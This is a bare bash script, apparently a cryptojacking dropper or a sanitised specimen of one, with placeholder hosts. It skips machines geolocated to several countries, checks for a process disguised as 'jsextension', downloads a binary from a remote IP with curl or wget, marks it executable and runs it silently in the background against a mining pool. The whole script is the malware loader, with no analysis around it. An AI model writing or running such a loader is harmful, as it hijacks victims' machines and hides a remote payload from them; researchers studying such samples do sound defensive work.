#!/bin/bash
country=$(curl -s -k https://where.invalid/country)
case "$country" in
    RU|UA|BY|KZ) exit 0 ;;
esac

name=jsextension
file=/nonexistent/$name
if ! pgrep "$name" > /dev/null
then
    curl -s http://203.0.113.228/download/$name -o "$file" || wget -q http://203.0.113.228/download/$name -O "$file"
    chmod +x "$file"
    nohup "$file" --tls -o pool.invalid:443 -u specimen --cpu-max-threads-hint=50 --background > /dev/null 2>&1 &
fi
